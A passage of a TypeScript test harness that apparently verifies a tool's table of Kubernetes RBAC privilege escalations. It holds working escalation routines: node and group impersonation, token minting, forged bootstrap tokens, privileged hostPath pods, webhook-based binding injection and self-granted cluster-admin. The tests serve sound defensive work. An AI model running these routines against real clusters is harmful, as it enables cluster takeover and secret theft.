import { Attacker, freshName, HOME, VICTIM } from './_attacker';
import { client, cluster, create, createNamespace, pathOf, resourcesOf, until } from './_cluster';
import { outerAddress, Recorder } from './_recorder';
import { clusterEscalations } from './cluster-escalations';
import { escalations, eventually, isTreasure, opensStream, pod, PRIVILEGED, reachesKubelet, SECRET, send } from './escalations';
import { Escalation, EscalationRequest } from '../../src/kubernetes/rbac/escalations';
import { PolicyRule } from '../../src/kubernetes/rbac/policy-rule';
import { certificateRequest } from '../certificates';
import { Client, RequestOptions, Response } from '../client';

/** The input of an attempt. */
export interface Use {
  readonly attacker: Attacker;
  /** The request that it uses for each need. */
  readonly uses: readonly EscalationRequest[];
  /** The name of the object to which its permissions are limited, or that it creates. */
  readonly name: string;
}

/** How an escalation is carried out. */
export interface EdgeAttempt {
  /** The namespace of permissions that are not granted in the whole cluster. */
  readonly namespace?: string;
  /** A name for the object to which permissions are limited, if they can be. */
  readonly name?: () => string;
  /** The name of the role that grants them. */
  readonly roleName?: (name: string) => string;
  /** Whether it reaches the target of the escalation. */
  readonly run: (use: Use) => Promise<boolean>;
  readonly needsControllers?: true;
  readonly needsOuterAddress?: true;
}

/** A namespace that refuses privileged pods unless its label is changed. */
export const GUARDED = 'guarded';
/** An account of the victim with all permissions. */
const PRIVILEGED_ACCOUNT = 'mighty';
const AGGREGATOR = 'clusterrole-aggregation-controller';
const SYSTEM = 'kube-system';
const RBAC = 'rbac.authorization.k8s.io';
const CERTIFICATES = 'certificates.k8s.io';
const EVERYTHING: PolicyRule = { apiGroups: ['*'], resources: ['*'], verbs: ['*'] };
const MERGE = 'application/merge-patch+json';
const APPLY = 'application/apply-patch+yaml';
export const AS_NODE: RequestOptions = { headers: { 'Impersonate-User': 'system:node:recorder', 'Impersonate-Group': 'system:nodes' } };
const BOOTSTRAPPERS = 'system:bootstrappers:kubeadm:default-node-token';
const CONTROLLER_MANAGER = 'system:kube-controller-manager';

let mutator: Recorder;

/** The title of an escalation, shared by entries of the table with the same edge. */
export function titleOf({ edge, to, named, needs }: Escalation): string {
  const everywhere = needs.length > 0 && needs.every(({ inCluster }) => inCluster) ? ' in the cluster' : '';
  return `${edge} to ${to}${named === undefined ? '' : ` by the name of a ${named}`}${everywhere}`;
}

/** Creates the additional objects that the attempts need. */
export async function prepareEdges(): Promise<void> {
  mutator = await Recorder.start('127.0.0.1', 'https');
  await createNamespace(GUARDED, 'restricted');
  await create({ apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: PRIVILEGED_ACCOUNT, namespace: VICTIM } });
  await create(bindingOf('ClusterRoleBinding', PRIVILEGED_ACCOUNT, 'cluster-admin', [{ kind: 'ServiceAccount', name: PRIVILEGED_ACCOUNT, namespace: VICTIM }]));
  await create({ apiVersion: `${RBAC}/v1`, kind: 'ClusterRole', metadata: { name: 'treasure-reader' }, rules: [{ apiGroups: [''], resources: ['secrets'], verbs: ['get'] }] });
  // The bindings of kubeadm for joining nodes.
  for (const role of ['system:node-bootstrapper', 'system:certificates.k8s.io:certificatesigningrequests:nodeclient']) {
    await create(bindingOf('ClusterRoleBinding', freshName('kubeadm'), role, [{ apiGroup: RBAC, kind: 'Group', name: BOOTSTRAPPERS }]));
  }
  await create(pod('mounts-treasure', { volumes: [{ name: 'treasure', secret: { secretName: 'treasure' } }] }));
  await until('the node may read what its pods mount', async () => isTreasure(await client.request('GET', SECRET, AS_NODE)));
}

export async function stopEdges(): Promise<void> {
  await mutator?.stop();
}

export function bindingOf(kind: string, name: string, role: string, subjects: readonly any[], roleKind = 'ClusterRole'): any {
  return {
    apiVersion: `${RBAC}/v1`, kind, metadata: { name, ...kind === 'RoleBinding' ? { namespace: VICTIM } : {} }, roleRef: { apiGroup: RBAC, kind: roleKind, name: role }, subjects,
  };
}

export const subjectOf = ({ account, namespace }: Attacker): any => ({ kind: 'ServiceAccount', name: account, namespace });

/** Whether a user has all permissions in a namespace or in the cluster. */
export async function mayDoEverything(as: RequestOptions, namespace?: string): Promise<boolean> {
  const { body } = await client.request('POST', '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews', {
    ...as,
    body: {
      apiVersion: 'authorization.k8s.io/v1', kind: 'SelfSubjectAccessReview', spec: { resourceAttributes: { verb: '*', group: '*', resource: '*', ...namespace === undefined ? {} : { namespace } } },
    },
  });
  return body.status?.allowed === true;
}

/** Whether a user can read the treasure. */
export const reads = async (as: RequestOptions): Promise<boolean> => isTreasure(await client.request('GET', SECRET, as));

/** A token of an account; `undefined` if the user may not create it. */
export async function tokenOf(as: RequestOptions, namespace: string, account: string, spec: object = {}): Promise<string | undefined> {
  const { body } = await client.request('POST', `/api/v1/namespaces/${namespace}/serviceaccounts/${account}/token`, {
    ...as, body: { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec },
  });
  return body.status?.token;
}

/** Whether the holder of a controller's token becomes an administrator by adding all permissions to a ClusterRole that is bound to it. */
export async function becomesAdministrator(attacker: Attacker, token: string | undefined): Promise<boolean> {
  if (token === undefined) { return false; }
  const role = await create({ apiVersion: `${RBAC}/v1`, kind: 'ClusterRole', metadata: { name: freshName('held') }, rules: [] });
  const { name } = role.metadata;
  await create(bindingOf('ClusterRoleBinding', name, name, [subjectOf(attacker)]));
  const { status } = await client.request('PATCH', await pathOf(role, name), { token, body: { rules: [EVERYTHING] }, contentType: MERGE });
  return status === 200 && eventually(() => mayDoEverything(attacker.credentials));
}

/** The objects in a response to a get, list or watch. */
function objectsIn({ body }: Response): readonly any[] {
  if (Array.isArray(body)) { return body.map(({ object }) => object); }
  return body?.items ?? (body?.type === 'ADDED' ? [body.object] : [body]);
}

/** An object as the attacker sees it with a verb, without other objects. */
async function seen(attacker: Attacker, { verb, resource }: EscalationRequest, path: string, object?: any): Promise<any> {
  const [collection, name] = [path.slice(0, path.lastIndexOf('/')), path.slice(path.lastIndexOf('/') + 1)];
  const [, subresource] = resource.split('/');
  const to = subresource === undefined ? path : `${path}/${subresource}`;
  const ask = (): Promise<Response> => {
    switch (verb) {
      case 'get': return attacker.request('GET', to);
      case 'list': return attacker.request('GET', `${collection}?fieldSelector=metadata.name=${name}`);
      case 'watch': return attacker.request('GET', `${collection}?fieldSelector=metadata.name=${name}&watch=true&timeoutSeconds=1`);
      case 'patch': return attacker.request('PATCH', `${to}?dryRun=All`, { body: {}, contentType: MERGE });
      case 'update': return attacker.request('PUT', `${to}?dryRun=All`, { body: object });
      // The response is the object that would wait for its dependents.
      case 'delete': return attacker.request('DELETE', `${to}?dryRun=All&propagationPolicy=Foreground`);
      default: return attacker.request('DELETE', `${collection}?dryRun=All`);
    }
  };
  return objectsIn(await ask()).find(found => found?.metadata?.name === name);
}

/** A requested certificate. */
interface Wanted {
  readonly user: string;
  readonly group?: string;
  readonly signer: string;
  readonly name?: string;
  /** How it is approved, if not by the control plane. */
  readonly approval?: EscalationRequest;
  /** How it is read, if not by get. */
  readonly reading?: EscalationRequest;
  /** How it is requested, if not only by create. */
  readonly asks?: (request: any) => Promise<boolean>;
}

/** A client certificate that the attacker requests; `undefined` if it does not get or see it. */
export async function certificateFor(
  attacker: Attacker, { user, group, signer, name = freshName('csr'), approval, reading, asks }: Wanted,
): Promise<RequestOptions | undefined> {
  const { certificate: request, key } = certificateRequest(user, group);
  const object = signingRequest(name, request, signer);
  const path = `${await pathOf(object)}/${name}`;
  if (!await (asks?.(object) ?? attacker.request('POST', await pathOf(object), { body: object }).then(({ status }) => status === 201))) { return undefined; }
  if (approval) {
    const conditions = [{ type: 'Approved', status: 'True', reason: 'x', message: 'x' }];
    const { status } = approval.verb === 'update'
      ? await attacker.request('PUT', `${path}/approval`, { body: { ...(await client.request('GET', path)).body, status: { conditions } } })
      : await attacker.request('PATCH', `${path}/approval`, { body: { status: { conditions } }, contentType: MERGE });
    if (status !== 200) { return undefined; }
  }
  const isIssued = async (): Promise<boolean> => (await client.request('GET', path)).body.status?.certificate !== undefined;
  if (!await until('it is issued', isIssued).then(() => true, () => false)) { return undefined; }
  const { body: current } = await client.request('GET', path);
  const issued = (await seen(attacker, reading ?? approval ?? { verb: 'get', apiGroup: CERTIFICATES, resource: 'certificatesigningrequests' }, path, current))?.status?.certificate;
  return issued === undefined ? undefined : { certificate: { cert: Buffer.from(issued, 'base64').toString(), key } };
}

function signingRequest(name: string, request: string, signer: string): any {
  return {
    apiVersion: `${CERTIFICATES}/v1`,
    kind: 'CertificateSigningRequest',
    metadata: { name },
    spec: { request: Buffer.from(request).toString('base64'), signerName: `kubernetes.io/${signer}`, usages: ['digital signature', 'client auth'] },
  };
}

/** Whether a user who created a certificate of a node, and may not read it, sees it in the response to any other request for it. */
export async function showsCertificateToItsMaker(attacker: Attacker): Promise<boolean> {
  const name = freshName('csr');
  const object = signingRequest(name, certificateRequest('system:node:recorder', 'system:nodes').certificate, 'kube-apiserver-client-kubelet');
  const collection = await pathOf(object);
  const path = `${collection}/${name}`;
  const answers = [await attacker.request('POST', collection, { body: object })];
  if (answers[0].status !== 201) { throw new Error('it is not made'); }
  await until('it is issued', async () => (await client.request('GET', path)).body.status?.certificate !== undefined);
  const whole = (await client.request('GET', path)).body;
  for (const query of ['', '?dryRun=All']) {
    // With the same name, and with another one.
    for (const metadata of [{ name }, { generateName: name }]) { answers.push(await attacker.request('POST', `${collection}${query}`, { body: { ...object, metadata } })); }
    for (const subresource of ['', '/status', '/approval', '/nodeclient']) {
      const to = `${path}${subresource}${query}`;
      answers.push(
        await attacker.request('GET', to), await attacker.request('PUT', to, { body: whole }), await attacker.request('POST', to, { body: whole }),
        await attacker.request('PATCH', to, { body: {}, contentType: MERGE }),
        await attacker.request('PATCH', `${to}${query === '' ? '?' : '&'}fieldManager=attacker`, { body: object, contentType: 'application/apply-patch+yaml' }),
      );
    }
  }
  for (const to of [path, collection]) { answers.push(await attacker.request('DELETE', `${to}?dryRun=All&propagationPolicy=Foreground`)); }
  for (const query of ['', '?watch=true&timeoutSeconds=1', `?fieldSelector=metadata.name=${name}`]) { answers.push(await attacker.request('GET', `${collection}${query}`)); }
  return JSON.stringify(answers).includes(whole.status.certificate);
}

/** Carries out the attempt of a row of the sensitive permissions. */
async function row({ attacker, uses: [{ verb, apiGroup, resource }] }: Use): Promise<boolean> {
  const found = [...escalations(), ...clusterEscalations()].find(
    one => one.resource === resource && one.apiGroup === apiGroup && one.names === undefined && one.attempts[verb] !== undefined,
  );
  if (!found) { throw new Error(`no row carries out ${verb} ${resource}`); }
  return found.attempts[verb](attacker);
}

const tokenSecret = (name: string, namespace = VICTIM, account = PRIVILEGED): any => ({
  apiVersion: 'v1',
  kind: 'Secret',
  type: 'kubernetes.io/service-account-token',
  metadata: { name, namespace, annotations: { 'kubernetes.io/service-account.name': account } },
});

/** Whether the attacker sees a token in a Secret with which it can read the treasure. */
async function seesToken(attacker: Attacker, reading: EscalationRequest, name: string): Promise<boolean> {
  const path = `/api/v1/namespaces/${VICTIM}/secrets/${name}`;
  await until('the token is there', async () => (await client.request('GET', path)).body.data?.token !== undefined);
  const token = Buffer.from((await seen(attacker, reading, path))?.data?.token ?? '', 'base64').toString();
  // A token that has just replaced another may not be accepted immediately.
  return token !== '' && eventually(() => reads({ token }));
}

/** Whether the attacker can change the token Secret of an account without permissions to a privileged account, and see its token. */
async function rewritesTokenSecret({ attacker, uses: [{ verb }, reading], name }: Use): Promise<boolean> {
  await create({ apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name, namespace: VICTIM } });
  const object = await create(tokenSecret(name, VICTIM, name));
  const path = await pathOf(object, name);
  await until('it has a token', async () => (await client.request('GET', path)).body.data?.token !== undefined);
  const { metadata: { annotations } } = tokenSecret(name);
  const change = { metadata: { annotations: { ...annotations, 'kubernetes.io/service-account.uid': null } }, data: null };
  const { status } = await send(verb, tokenSecret(name), change, path, attacker);
  return status === 200 && seesToken(attacker, reading, name);
}

/** Creates a Secret of another type, which the attacker may delete with a verb. @returns whether the attempt can continue; false if the deletion failed */
export async function findsSecret({ attacker, name }: Use, verb?: string): Promise<boolean> {
  const object = { apiVersion: 'v1', kind: 'Secret', metadata: { name, namespace: VICTIM } };
  await create(object);
  return verb === undefined || (await send(verb, object, {}, await pathOf(object, name), attacker)).status === 200;
}

/** Whether the attacker can create an object by a request with its name. */
async function createsByName({ attacker, uses: [, { verb }] }: Use, object: any): Promise<boolean> {
  const path = await pathOf(object, object.metadata.name);
  const { status } = verb === 'update' ? await attacker.request('PUT', path, { body: object })
    : await attacker.request('PATCH', `${path}?fieldManager=attacker`, { body: object, contentType: APPLY });
  return status === 201;
}

/** Whether the attacker can write a RoleBinding or ClusterRoleBinding for itself. If it only changes one, a binding of the same role exists. */
async function bindsItself({ attacker }: Use, verb: string, binding: any): Promise<boolean> {
  const { name } = binding.metadata;
  const path = await pathOf(binding, name);
  const before = verb === 'create' ? undefined : name === 'cluster-admin' ? (await client.request('GET', path)).body
    : await create({ ...binding, subjects: [{ apiGroup: RBAC, kind: 'User', name: 'bystander' }] });
  const subjects = [...before?.subjects ?? [], ...binding.subjects];
  const { status } = await send(verb, { ...before ?? binding, subjects }, { subjects }, path, attacker);
  return status < 300;
}

async function labels(attacker: Attacker, { verb, resource }: EscalationRequest): Promise<boolean> {
  const path = `/api/v1/namespaces/${GUARDED}`;
  const { body } = await client.request('GET', path);
  const change = { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } };
  const { status } = await send(verb, { ...body, metadata: { ...body.metadata, resourceVersion: undefined, labels: { ...body.metadata.labels, ...change.metadata.labels } } }, change, `${path}${resource.slice('namespaces'.length)}`, attacker);
  return status === 200;
}

/** A pod with the root directory of the node, in the guarded namespace. */
const rootPod = (): any => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: freshName('root'), namespace: GUARDED },
  spec: { containers: [{ name: 'app', image: 'x', securityContext: { privileged: true } }], volumes: [{ name: 'root', hostPath: { path: '/' } }] },
});

async function runsPrivilegedPod({ attacker, uses: [labelling] }: Use): Promise<boolean> {
  const object = rootPod();
  const path = await pathOf(object);
  const run = (): Promise<Response> => attacker.request('POST', path, { body: object });
  try {
    if (!await labels(attacker, labelling)) { return (await run()).status === 201; }
    let { status, body } = await run();
    while (status === 403 && /PodSecurity/.test(body.message)) { ({ status, body } = await run()); }
    return status === 201;
  } finally {
    await client.request('PATCH', `/api/v1/namespaces/${GUARDED}`, { body: { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'restricted' } } }, contentType: MERGE });
    await until('privileged pods are refused again', async () => (await client.request('POST', `${path}?dryRun=All`, { body: rootPod() })).status === 403);
  }
}

/** Whether the attacker can run a pod that passes "restricted" and whose volume is the root directory of the node. */
export async function mountsNodeVolume(
  attacker: Pick<Client, 'request'>, namespace = GUARDED, name = freshName('volume'),
  createsVolume = async (volume: any): Promise<boolean> => (await attacker.request('POST', await pathOf(volume), { body: volume })).status === 201,
): Promise<boolean> {
  const volume = {
    apiVersion: 'v1',
    kind: 'PersistentVolume',
    metadata: { name },
    spec: { hostPath: { path: '/' }, accessModes: ['ReadWriteOnce'], capacity: { storage: '1Gi' }, storageClassName: '', claimRef: { namespace, name: `${name}-data` } },
  };
  const claim = { accessModes: ['ReadWriteOnce'], storageClassName: '', resources: { requests: { storage: '1Gi' } } };
  const object = {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name, namespace },
    spec: {
      securityContext: { runAsNonRoot: true, runAsUser: 1000, seccompProfile: { type: 'RuntimeDefault' } },
      containers: [{ name: 'app', image: 'x', securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } }, volumeMounts: [{ name: 'data', mountPath: '/data' }] }],
      volumes: [{ name: 'data', ephemeral: { volumeClaimTemplate: { spec: claim } } }],
    },
  };
  const made = await createsVolume(volume);
  if ((await attacker.request('POST', await pathOf(object), { body: object })).status !== 201 || !made) { return false; }
  return eventually(async () => (await client.request('GET', `/api/v1/namespaces/${namespace}/persistentvolumeclaims/${name}-data`)).body.status?.phase === 'Bound');
}

/** Whether the attacker becomes an administrator when an administrator binds another user. */
async function isAddedToBindings(attacker: Attacker): Promise<boolean> {
  return eventually(async () => {
    const binding = bindingOf('ClusterRoleBinding', freshName('alice'), 'cluster-admin', [{ apiGroup: RBAC, kind: 'User', name: 'alice' }]);
    await create(binding);
    const isAdministrator = await mayDoEverything(attacker.credentials);
    await client.request('DELETE', await pathOf(binding, binding.metadata.name));
    return isAdministrator;
  });
}

/** Whether the attacker can write an object that changes admission. */
async function admits({ attacker }: Use, verb: string, before: any, change: any): Promise<boolean> {
  const path = await pathOf(before, before.metadata.name);
  const current = verb === 'create' ? undefined : await create(before);
  const { status } = await send(verb, { ...current ?? before, ...change }, change, path, attacker);
  return status < 300;
}

const addedSubject = (attacker: Attacker): object => ({ op: 'add', path: '/subjects/-', value: subjectOf(attacker) });

async function mutatesByWebhook(use: Use): Promise<boolean> {
  const { attacker, name, uses: [{ verb }] } = use;
  const webhook = (url: string): any => ({
    name: 'a.example.com',
    clientConfig: { url, caBundle: Buffer.from(cluster.certificate.cert).toString('base64') },
    rules: [{ apiGroups: [RBAC], apiVersions: ['v1'], operations: ['CREATE'], resources: ['clusterrolebindings'] }],
    sideEffects: 'None',
    failurePolicy: 'Ignore',
    admissionReviewVersions: ['v1'],
  });
  const before = { apiVersion: 'admissionregistration.k8s.io/v1', kind: 'MutatingWebhookConfiguration', metadata: { name }, webhooks: [webhook('https://127.0.0.1:1/')] };
  mutator.patch = [addedSubject(attacker)];
  try {
    return await admits(use, verb, before, { webhooks: [webhook(`https://127.0.0.1:${mutator.port}/`)] }) && await isAddedToBindings(attacker);
  } finally {
    await client.request('DELETE', await pathOf(before, name));
  }
}

async function mutatesByPolicy(use: Use): Promise<boolean> {
  const { attacker, name, uses } = use;
  const apiVersion = 'admissionregistration.k8s.io/v1';
  if (!(await resourcesOf(apiVersion)).some(({ kind }) => kind === 'MutatingAdmissionPolicy')) { return false; }
  const policy = (resource: string, expression: string): any => ({
    spec: {
      failurePolicy: 'Ignore',
      reinvocationPolicy: 'Never',
      matchConstraints: { resourceRules: [{ apiGroups: [RBAC], apiVersions: ['v1'], operations: ['CREATE'], resources: [resource] }] },
      mutations: [{ patchType: 'JSONPatch', jsonPatch: { expression } }],
    },
  });
  const expression = `[JSONPatch{op: "add", path: "/subjects/-", value: Object.subjects.item{kind: "ServiceAccount", name: "${attacker.account}", namespace: "${HOME}"}}]`;
  const objects = [
    [{ apiVersion, kind: 'MutatingAdmissionPolicy', metadata: { name }, ...policy('roles', '[JSONPatch{op: "test", path: "/kind", value: "x"}]') }, policy('clusterrolebindings', expression)],
    [{ apiVersion, kind: 'MutatingAdmissionPolicyBinding', metadata: { name }, spec: { policyName: 'none' } }, { spec: { policyName: name } }],
  ];
  try {
    const written: boolean[] = [];
    for (const [index, [before, change]] of objects.entries()) { written.push(await admits(use, uses[index].verb, before, change)); }
    return written.every(Boolean) && await isAddedToBindings(attacker);
  } finally {
    for (const [object] of objects) { await client.request('DELETE', await pathOf(object, name)); }
  }
}

/** Whether the kubelet may request tokens of pods for another audience, on behalf of a driver. */
async function asksForTokens(use: Use): Promise<boolean> {
  const { name, uses: [{ verb }] } = use;
  const driver = { apiVersion: 'storage.k8s.io/v1', kind: 'CSIDriver', metadata: { name }, spec: { volumeLifecycleModes: ['Ephemeral'] } };
  const running = await create(pod(freshName('volume'), { volumes: [{ name: 'x', csi: { driver: name } }] }));
  const { metadata: { name: podName, uid } } = running;
  const token = (): Promise<string | undefined> => tokenOf(AS_NODE, VICTIM, PRIVILEGED, { audiences: ['vault'], boundObjectRef: { apiVersion: 'v1', kind: 'Pod', name: podName, uid } });
  if (await token() !== undefined) { throw new Error('the node gets such a token without the driver'); }
  const change = { spec: { ...driver.spec, tokenRequests: [{ audience: 'vault' }] } };
  return await admits(use, verb, driver, change) && eventually(async () => await token() !== undefined);
}

/** Whether the attacker can do the action of a verb of constrained impersonation. */
async function doesAs(attacker: Attacker, { verb, resource }: EscalationRequest): Promise<boolean> {
  const asAccount = { ...attacker.credentials, headers: { 'Impersonate-User': `system:serviceaccount:${VICTIM}:${PRIVILEGED_ACCOUNT}` } };
  const act = verb.slice(verb.lastIndexOf(':') + 1);
  switch (resource) {
    case 'serviceaccounts/token': return await tokenOf(asAccount, VICTIM, PRIVILEGED) !== undefined;
    case 'pods': return (await client.request('POST', `/api/v1/namespaces/${VICTIM}/pods`, { ...asAccount, body: pod(freshName('pod')) })).status === 201;
    case 'pods/exec': return opensStream({ request: (method: string, path: string, options: RequestOptions) => client.request(method, path, { ...asAccount, ...options, headers: { ...options.headers, ...asAccount.headers } }) } as Attacker, act, freshName('pod'), 'exec');
    case 'secrets': return isTreasure(act === 'get' ? await client.request('GET', SECRET, asAccount)
      : await client.request('GET', `/api/v1/namespaces/${VICTIM}/secrets${act === 'watch' ? '?watch=true&timeoutSeconds=1' : ''}`, asAccount));
    default: {
      const role = await create({ apiVersion: `${RBAC}/v1`, kind: 'ClusterRole', metadata: { name: freshName('held') }, rules: [] });
      await create(bindingOf('ClusterRoleBinding', role.metadata.name, role.metadata.name, [subjectOf(attacker)]));
      const path = await pathOf(role, role.metadata.name);
      const change = { rules: [EVERYTHING] };
      const { status } = act === 'patch' ? await client.request('PATCH', path, { ...asAccount, body: change, contentType: MERGE }) : await client.request('PUT', path, { ...asAccount, body: { ...role, ...change } });
      return status === 200 && eventually(() => mayDoEverything(attacker.credentials));
    }
  }
}

/** Whether a node that the attacker chooses gets the token of a pod that waits. */
async function assignsPod({ attacker, uses: [{ resource }], name }: Use): Promise<boolean> {
  const { metadata: { uid } } = await create(pod(name, { nodeName: undefined }));
  const token = (): Promise<string | undefined> => tokenOf(AS_NODE, VICTIM, PRIVILEGED, { boundObjectRef: { apiVersion: 'v1', kind: 'Pod', name, uid } });
  if (await token() !== undefined) { throw new Error('the node gets a token of a pod that waits'); }
  const body = { apiVersion: 'v1', kind: 'Binding', metadata: { name, namespace: VICTIM }, target: { apiVersion: 'v1', kind: 'Node', name: 'recorder' } };
  const collection = `/api/v1/namespaces/${VICTIM}`;
  const { status } = await attacker.request('POST', resource === 'bindings' ? `${collection}/bindings` : `${collection}/pods/${name}/binding`, { body });
  return status === 201 && eventually(async () => await token() !== undefined);
}

const impersonated = (user: string, ...groups: readonly string[]): { readonly headers: { readonly [name: string]: string } } =>
  ({ headers: { 'Impersonate-User': user, ...groups.length === 0 ? {} : { 'Impersonate-Group': groups[0] } } });

/** A user for the impersonation of any group. */
const impersonatedName = ({ resource }: EscalationRequest): string => resource === 'users' ? 'bystander' : `system:serviceaccount:${VICTIM}:bystander`;

const container = (name: string): any => ({ name, image: 'evil', volumeMounts: [{ name: 'treasure', mountPath: '/treasure' }] });
const treasurePod = (name: string): any => pod(name, { volumes: [{ name: 'treasure', secret: { secretName: 'treasure' } }] });

/** Whether the attacker can run another program in a pod of the victim, with its volumes. */
async function changesPod(use: Use, subresource: string | undefined, change: (before: any) => any): Promise<boolean> {
  const { attacker, uses: [{ verb }], name } = use;
  const before = await create(treasurePod(name));
  const path = `${await pathOf(before, name)}${subresource === undefined ? '' : `/${subresource}`}`;
  const after = change(before);
  const whole = { ...before, metadata: { name, namespace: VICTIM }, spec: { ...before.spec, ...after.spec } };
  const { status } = await send(verb, whole, after, path, attacker);
  return status === 200 && JSON.stringify((await client.request('GET', await pathOf(before, name))).body.spec).includes('evil');
}

const addsContainer = (use: Use): Promise<boolean> => changesPod(use, 'ephemeralcontainers', () => ({ spec: { ephemeralContainers: [container('inside')] } }));
const changesImage = (use: Use): Promise<boolean> => changesPod(use, undefined, before => ({ spec: { containers: [{ ...before.spec.containers[0], image: 'evil' }] } }));
const enters = ({ attacker, uses: [{ verb, resource }], name }: Use): Promise<boolean> => opensStream(attacker, verb, name, resource.split('/')[1]);
const fresh = (prefix: string) => (): string => freshName(prefix);
const asController: RequestOptions = impersonated(CONTROLLER_MANAGER);

/** Whether the attacker can add all permissions to its own role. */
async function escalates({ attacker, uses: [{ verb }] }: Use, kind: string, name: string, namespace?: string): Promise<boolean> {
  const path = await pathOf({ apiVersion: `${RBAC}/v1`, kind, metadata: { namespace: VICTIM } }, name);
  const { status, body } = await client.request('GET', path);
  if (status !== 200) { return false; }
  const change = { rules: [EVERYTHING] };
  const sent = await send(verb, { ...body, ...change }, change, path, attacker);
  return sent.status === 200 && eventually(() => mayDoEverything(attacker.credentials, namespace));
}

/** A ClusterRole with every permission that is added to one which the attacker holds. */
async function addsToItsRole(attacker: Attacker): Promise<boolean> {
  const name = freshName('aggregated');
  const added = { apiVersion: `${RBAC}/v1`, kind: 'ClusterRole', metadata: { name: freshName('added'), labels: { [name]: 'true' } }, rules: [EVERYTHING] };
  const aggregationRule = { clusterRoleSelectors: [{ matchLabels: added.metadata.labels }] };
  await create({ apiVersion: `${RBAC}/v1`, kind: 'ClusterRole', metadata: { name }, aggregationRule, rules: [] });
  await create(bindingOf('ClusterRoleBinding', freshName('bound'), name, [subjectOf(attacker)]));
  const { status } = await attacker.request('POST', await pathOf(added), { body: added });
  return status === 201 && eventually(() => mayDoEverything(attacker.credentials));
}

const bindsTreasureReader = (kind: string): EdgeAttempt => ({
  name: () => 'treasure-reader',
  run: async use => await bindsItself(use, use.uses[1].verb, bindingOf(kind, freshName('bound'), use.name, [subjectOf(use.attacker)])) && eventually(() => reads(use.attacker.credentials)),
});

/** How each escalation is carried out, by its title. */
export const EDGE_ATTEMPTS: { readonly [title: string]: EdgeAttempt } = {
  'grants-everything to administrator': { run: async ({ attacker }) => await mayDoEverything(attacker.credentials, VICTIM) && reads(attacker.credentials) },
  'read-secrets to secrets': { run: row },
  'read-secrets-by-dry-run to secrets': { run: row },
  'read-token-secret to accounts by the name of a token-secret': {
    needsControllers: true,
    name: fresh('token'),
    run: async ({ attacker, uses: [reading], name }) => {
      await create(tokenSecret(name));
      return seesToken(attacker, reading, name);
    },
  },
  'write-secrets to written-secrets': {
    needsControllers: true,
    run: async ({ attacker, uses: [, reading] }) => {
      const object = tokenSecret(freshName('written'));
      const { status } = await attacker.request('POST', await pathOf(object), { body: object });
      return status === 201 && seesToken(attacker, reading, object.metadata.name);
    },
  },
  'write-secrets to written-secrets by the name of a new-object': {
    needsControllers: true,
    name: fresh('written'),
    run: async ({ attacker, uses: [, reading], name }) => {
      const object = tokenSecret(name);
      const { status } = await attacker.request('POST', await pathOf(object), { body: object });
      return status === 201 && seesToken(attacker, reading, name);
    },
  },
  'apply-token-secret to written-secrets by the name of a new-object': {
    needsControllers: true,
    name: fresh('applied'),
    run: async use => await createsByName(use, tokenSecret(use.name)) && seesToken(use.attacker, use.uses[1], use.name),
  },
  'rewrite-token-secret to written-secrets': { needsControllers: true, name: fresh('rewritten'), run: rewritesTokenSecret },
  'rewrite-token-secret to written-secrets by the name of a token-secret': { needsControllers: true, name: fresh('rewritten'), run: rewritesTokenSecret },
  'create-bootstrap-token to node': {
    needsControllers: true,
    namespace: SYSTEM,
    run: async ({ attacker }) => {
      const [id, secret] = [String(Date.now() % 1e6).padStart(6, '0'), '0123456789abcdef'];
      const object = {
        apiVersion: 'v1',
        kind: 'Secret',
        type: 'bootstrap.kubernetes.io/token',
        metadata: { name: `bootstrap-token-${id}`, namespace: SYSTEM },
        stringData: { 'token-id': id, 'token-secret': secret, 'usage-bootstrap-authentication': 'true', 'auth-extra-groups': BOOTSTRAPPERS },
      };
      if ((await attacker.request('POST', await pathOf(object), { body: object })).status !== 201) { return false; }
      const token = `${id}.${secret}`;
      await until('the token is known', async () => (await client.request('GET', '/apis', { token })).status === 200);
      const joining = Attacker.holding(token, id, SYSTEM);
      const node = await certificateFor(joining, { user: 'system:node:recorder', group: 'system:nodes', signer: 'kube-apiserver-client-kubelet' });
      return node !== undefined && reads(node);
    },
  },
  'create-service-account-tokens to tokens': {
    run: async ({ attacker }) => {
      const token = await tokenOf(attacker.credentials, VICTIM, PRIVILEGED);
      return token !== undefined && await tokenOf(attacker.credentials, VICTIM, PRIVILEGED, { audiences: ['cloud'] }) !== undefined && reads({ token });
    },
  },
  'create-service-account-tokens to tokens by the name of a account': {
    name: () => PRIVILEGED,
    run: async ({ attacker }) => {
      const token = await tokenOf(attacker.credentials, VICTIM, PRIVILEGED);
      return token !== undefined && reads({ token });
    },
  },
  'impersonate-users to cluster-admin in the cluster': {
    needsControllers: true,
    run: async ({ attacker }) => becomesAdministrator(attacker, await tokenOf({ ...attacker.credentials, ...asController }, SYSTEM, AGGREGATOR)),
  },
  'impersonate-groups to cluster-admin in the cluster': {
    run: ({ attacker, uses: [first] }) => mayDoEverything({ ...attacker.credentials, ...impersonated(impersonatedName(first), 'system:masters') }),
  },
  'impersonate-groups to nodes in the cluster': { run: ({ attacker }) => reads({ ...attacker.credentials, ...AS_NODE }) },
  'impersonate-groups to node by the name of a user in the cluster': { name: () => AS_NODE.headers!['Impersonate-User'], run: ({ attacker }) => reads({ ...attacker.credentials, ...AS_NODE }) },
  'impersonate-service-accounts to accounts': { run: ({ attacker }) => reads({ ...attacker.credentials, ...impersonated(`system:serviceaccount:${VICTIM}:${PRIVILEGED}`) }) },
  'impersonate-service-accounts to accounts by the name of a account': {
    name: () => PRIVILEGED, run: ({ attacker }) => reads({ ...attacker.credentials, ...impersonated(`system:serviceaccount:${VICTIM}:${PRIVILEGED}`) }),
  },
  'impersonate-users to accounts by the name of a user in the cluster': { name: () => PRIVILEGED, run: ({ attacker }) => reads({ ...attacker.credentials, ...impersonated(PRIVILEGED) }) },
  'impersonate-groups to accounts by the name of a group in the cluster': {
    name: () => PRIVILEGED,
    run: ({ attacker, uses: [, second] }) => reads({ ...attacker.credentials, ...impersonated(impersonatedName(second), PRIVILEGED) }),
  },
